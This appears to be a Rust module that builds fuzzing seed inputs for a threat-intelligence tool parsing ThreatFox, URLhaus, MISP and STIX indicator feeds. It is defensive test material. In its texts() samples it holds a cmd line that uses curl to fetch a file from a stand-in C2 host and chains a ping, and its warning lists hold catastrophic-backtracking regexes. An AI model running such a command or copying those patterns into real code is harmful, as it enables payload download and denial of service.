//! Real input, cut small: what a fuzzer changes should fit on a page.

use std::io::Write;
use std::path::Path;

use flate2::Compression;
use flate2::write::GzEncoder;
use threatfox::feed;
use threatfox::match_key::Kind;
use threatfox::normalize::{Filter, KeyStore, Normalizer};
use threatfox::shared_hosts::SharedHosts;
use threatfox::source::{self, Input};
use threatfox::table::Layout;
use threatfox::warning::WarningLists;

/// The header of an export.
pub const CSV_HEADER: &[u8] = b"# \"first_seen_utc\",\"ioc_id\",\"ioc_value\",\"ioc_type\",\"threat_type\",\"fk_malware\",\
    \"malware_alias\",\"malware_printable\",\"last_seen_utc\",\"confidence_level\",\"is_compromised\",\"reference\",\
    \"tags\",\"anonymous\",\"reporter\"\r\n";

/// Lines without a header: some of each type, and some that no export had yet.
pub fn csv_records() -> Vec<Vec<u8>> {
    let export = sample("recent-2026-03-15.csv");
    let text = String::from_utf8_lossy(&export);
    let mut samples: Vec<_> = [
        "ip:port",
        "domain",
        "url",
        "sha256_hash",
        "md5_hash",
        "sha1_hash",
    ]
    .iter()
    .map(|kind| {
        let column = format!("\"{kind}\"");
        let lines: Vec<_> = text
            .lines()
            .filter(|line| line.contains(&column))
            .take(2)
            .collect();
        export_of(&lines)
    })
    .collect();
    samples.push(export_of(&[
        r#""2026-03-15 04:01:14", "1", "b""ü""cher.example", "domain", "x", "win.x", "a, b", "=X;Y", "2026-03-16 00:00:00", "", "true", "None", "l
m", "0", "r""#,
        r#""2026-03-15 04:01:14", "2", "https://https://U:p@XN--BCHER-KVA.example:8080/?q#f", "url", "x", "win.x", "", "", "", "75", "", "", "", "0", "r""#,
        r#""2026-03-15 04:01:14", "3", "[2001:db9::7]:443", "ip:port", "x", "win.x", "", "", "", "75", "", "", "", "0", "r""#,
    ]));
    samples
}

fn export_of(lines: &[&str]) -> Vec<u8> {
    let trailer = format!("# Number of entries: {}", lines.len());
    let lines: Vec<_> = lines.iter().copied().chain([trailer.as_str()]).collect();
    lines.join("\r\n").into_bytes()
}

/// Answers of the API and exports.
pub fn json() -> Vec<Vec<u8>> {
    let record = r#"{"ioc_value":"http:\/\/c2.example:81\/x","ioc_type":"url","threat_type":"botnet_cc","malware":"win.x","malware_alias":null,"malware_printable":"X","first_seen_utc":"2026-07-24 13:50:06","last_seen_utc":null,"confidence_level":75,"is_compromised":false,"reference":null,"tags":"a,b","anonymous":"0","reporter":"r"}"#;
    let answer = r#"{"id":"7","ioc":"203.0.114.7:443","threat_type":"botnet_cc","ioc_type":"ip:port","malware":"win.x","confidence_level":100,"first_seen":"2026-08-15 16:05:07 UTC","last_seen":null,"reporter":"r","tags":["a","b"]}"#;
    [
        format!("{{\"1\":[{record}],\"2\":[{record},{record}]}}"),
        format!("{{\"query_status\":\"ok\",\"data\":[{answer},{answer}]}}"),
        r#"{"query_status":"illegal_days","data":"Days must be \u0031 to 7"}"#.to_owned(),
    ]
    .into_iter()
    .map(String::into_bytes)
    .collect()
}

/// Files of other sources than ThreatFox.
pub fn sources() -> Vec<Vec<u8>> {
    let feeds = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/feeds");
    let read = |name: &str| std::fs::read_to_string(feeds.join(name)).unwrap_or_default();
    let lines = |name: &str| {
        let text = read(name);
        let lines: Vec<_> = text.lines().take(14).collect();
        lines.join("\n")
    };
    let bundle = r#"{"type":"bundle","id":"bundle--1","objects":[{"type":"malware","id":"malware--1","name":"Loader"},
        {"type":"relationship","relationship_type":"indicates","source_ref":"indicator--1","target_ref":"malware--1"},
        {"type":"indicator","id":"indicator--1","pattern":"[ipv4-addr:value = '198.41.5.0/29' OR file:hashes.'SHA-1' = '77b0c41b7d340b8a3d903f21347bbf06aa766b5b']",
        "valid_from":"2026-01-01T00:00:00Z","confidence":80,"external_references":[{"url":"https://site.example/"}]}]}"#;
    let urlhaus = r#"{"5":[{"dateadded":"2026-03-15 04:50:08 UTC","url":"http:\/\/bad.top\/x","url_status":"online","threat":"malware_download","tags":["a","b"],"urlhaus_link":"https://urlhaus.abuse.ch/url/5/"}]}"#;
    let bazaar = "# \"first_seen_utc\",\"sha256_hash\",\"md5_hash\",\"signature\"\n\"2026-03-15 03:15:12\", \"4dd9d9953ffac418546a28e23d52ccc8c92d863f0495c8980070457088f94297\", \"n/a\", \"Mirai\"\n";
    [
        lines("urlhaus-first-400-lines.csv"),
        lines("malwarebazaar-sha256-first-200-lines.txt"),
        read("feodo.json"),
        read("misp-event.json"),
        read("misp.csv"),
        read("plain.txt"),
        bundle.to_owned(),
        urlhaus.to_owned(),
        bazaar.to_owned(),
    ]
    .into_iter()
    .map(String::into_bytes)
    .collect()
}

/// Patterns of STIX.
pub fn patterns() -> Vec<Vec<u8>> {
    [
        "[ipv4-addr:value = '198.41.5.7' OR domain-name:value IN ('a.top', 'b.top')]",
        r"([file:hashes.'SHA-256' = '4dd9' AND file:name = 'it\'s']) OR [url:value LIKE 'http://%']",
        "[(network-traffic:dst_ref.value = '198.41.5.7' AND network-traffic:dst_port IN (80, 443))] WITHIN 5 SECONDS",
        "[ipv6-addr:value ISSUBSET '2600:1::/120' AND NOT x:y[*].z = t'2026-01-01T00:00:00Z'] FOLLOWEDBY [EXISTS a:b]",
    ]
    .map(|text| text.as_bytes().to_vec())
    .to_vec()
}

/// The same in gzip and zip.
pub fn containers() -> Vec<Vec<u8>> {
    let plain: Vec<_> = csv_records()
        .into_iter()
        .take(2)
        .map(|records| [CSV_HEADER, &records].concat())
        .chain(json().into_iter().take(1))
        .collect();
    let packed = plain
        .iter()
        .flat_map(|bytes| [gzipped(bytes), zipped(bytes)]);
    packed.chain(plain.iter().cloned()).collect()
}

/// Feeds made of the exports.
pub fn feeds() -> Vec<Vec<u8>> {
    let exports = csv_records().into_iter();
    let feeds: Vec<_> = exports
        .map(|records| feed_of(&[CSV_HEADER, &records].concat()))
        .collect();
    let packed = gzipped(&feeds[0]);
    feeds.into_iter().chain([packed]).collect()
}

/// Policies with every list.
pub fn policies() -> Vec<Vec<u8>> {
    [
        "ignore:\n  ips: [203.0.113.0/24, 2001:db8::/32]\n  domains:\n    - host.example # why\n    - .suffix.example\n\
         \u{20} urls: [\"http://host.example/a?b\"]\n  hashes: [d41d8cd98f00b204e9800998ecf8427e]\n",
        "ignore:\n  malware: [win.x, 'X Stealer']\n  reporters: &r [someone]\n  tags: *r\n  ids: [1, 2]\n\
         shared_hosts:\n  - files.example\n",
    ]
    .map(|text| text.as_bytes().to_vec())
    .to_vec()
}

fn feed_of(export: &[u8]) -> Vec<u8> {
    let mut normalizer = Normalizer::<KeyStore>::new(Filter::default(), SharedHosts::built_in());
    let read = source::read(&Input::of_bytes(export, "sample"), &mut normalizer);
    match read.and_then(|_| normalizer.finish()) {
        Ok((store, _)) => feed::write(&store, &WarningLists::built_in(), Vec::new(), Layout::Csv)
            .map_or(Vec::new(), |(bytes, _)| bytes),
        _ => Vec::new(),
    }
}

fn gzipped(bytes: &[u8]) -> Vec<u8> {
    let mut gzip = GzEncoder::new(Vec::new(), Compression::default());
    // Writing to memory does not fail.
    let _ = gzip.write_all(bytes);
    gzip.finish().unwrap_or_default()
}

fn zipped(bytes: &[u8]) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let _ = zip.start_file("full.csv", zip::write::SimpleFileOptions::default());
    let _ = zip.write_all(bytes);
    zip.finish().map_or(Vec::new(), std::io::Cursor::into_inner)
}

fn sample(name: &str) -> Vec<u8> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/threatfox");
    std::fs::read(folder.join(name)).unwrap_or_default()
}

/// Lists of false positives, as the Hunting API and its page have them.
pub fn false_positives() -> Vec<Vec<u8>> {
    let entry = r#"{"time_stamp":"2026-03-15 04:01:14 UTC","platform":"ThreatFox","entry_type":"domain","entry_value":"bank.example","removed_by":"someone","removal_notes":"a \u00fc bank"}"#;
    [
        format!("{{\"77\":{entry},\"78\":{entry}}}"),
        format!("{{\"query_status\":\"ok\",\"data\":[{entry},{{\"entry_value\":\"203.0.113.7:443\"}}]}}"),
        format!("[{entry}]"),
        r#"{"query_status":"unknown_auth_key","data":"x"}"#.to_owned(),
        "# \"time_stamp\",\"platform\",\"entry_type\",\"entry_value\",\"removed_by\",\"removal_notes\"\n\
         \"2026-03-15 04:01:14\", \"ThreatFox\", \"url\", \"http://bank.example/x\", \"someone\", \"\"\n"
            .to_owned(),
    ]
    .map(String::into_bytes)
    .to_vec()
}

/// Keys to ask lists for.
pub const KEYS: [(Kind, &str); 5] = [
    (Kind::Ip, "203.0.113.7"),
    (Kind::Domain, "a.cdn.example"),
    (Kind::UrlHost, "2001:db8::7"),
    (
        Kind::Url,
        "url:http://u@a.cdn.example:81/aaaaaaaaaaaaaaaaaaaa?b",
    ),
    (Kind::Md5, "md5:45c4710edc62df311612101b9160c7e1"),
];

/// Warning lists of each type.
pub fn warning_lists() -> Vec<Vec<u8>> {
    [
        ("cidr", "ip-dst|port", r#"["203.0.113.0/24","2001:db8::7","::ffff:203.0.113.0/120","0.0.0.0/0"]"#),
        ("hostname", "domain", r#"["cdn.example",".b.example","xn--bcher-kva.example"]"#),
        ("string", "ALL", r#"["a.cdn.example","45C4710EDC62DF311612101B9160C7E1"]"#),
        ("substring", "url", r#"["cdn","?b"]"#),
        ("regex", "url", r##"["/(a|aa)+$/i","#^(x{1,9}){1,9}#","(?:^|\\.)cdn\\.example$"]"##),
    ]
    .map(|(kind, attribute, list)| {
        format!(
            r#"{{"name":"A list","type":"{kind}","category":"known","version":1,"matching_attributes":["{attribute}"],"list":{list}}}"#
        )
        .into_bytes()
    })
    .to_vec()
}

/// Hits of a hunt and of a scan.
pub fn hits() -> Vec<Vec<u8>> {
    [
        r#"{"Strength":"strong","Malware":"X;Y","IOC":"203.0.113.7:443","Time":"2026-11-18T08:00:07.007Z","Computer":"WS01","Place":"Sysmon 3","RecordID":1}"#,
        r#"{"Strength":"medium","IOC":"http://evil.example/it's","First":"2026-11-17T00:00:00Z","Last":"2026-11-18T00:00:00Z","Count":41}
{"Strength":"weak","IOC":"45c4710edc62df311612101b9160c7e1","Time":1794988807.007,"Computer":null,"RecordID":1.5}"#,
    ]
    .map(|text| text.as_bytes().to_vec())
    .to_vec()
}

/// Texts of events, and values that people type.
pub fn texts() -> Vec<Vec<u8>> {
    [
        r#"cmd /c "curl -o x https://u:p@c2.evil.example:8443/a?b#c & ping [2001:db8::7]:443" \\203.0.113.7@80\DavWWWRoot\x"#,
        "type:  5 cdn.evil.example;::ffff:203.0.113.7;64:ff9b::cb00:7107;2001:db8::7;",
        "SHA1=A41B65A11638C58B99039B5099D4229E33761541,MD5=7EBFDCF78039F8A62E76687F29973FDE,IMPHASH=0",
        "[ZoneTransfer]  ZoneId=3  ReferrerUrl=https://b\u{fc}cher.example/  HostUrl=http://0x5e.1098916/./x",
        "hxxps[:]//evil[.]example/x",
        "xn--bcher-kva.example.",
    ]
    .map(|text| text.as_bytes().to_vec())
    .to_vec()
}

/// The first chunks of real logs.
pub fn chunks() -> Vec<Vec<u8>> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/data/evtx");
    let names = ["sysmon-psexec-dns.evtx", "otrf-covenant-dcom-iertutil.evtx"];
    let logs = names
        .iter()
        .filter_map(|name| std::fs::read(folder.join(name)).ok());
    // As much as libFuzzer changes.
    logs.map(|log| log[0x1000..0x5000].to_vec()).collect()
}
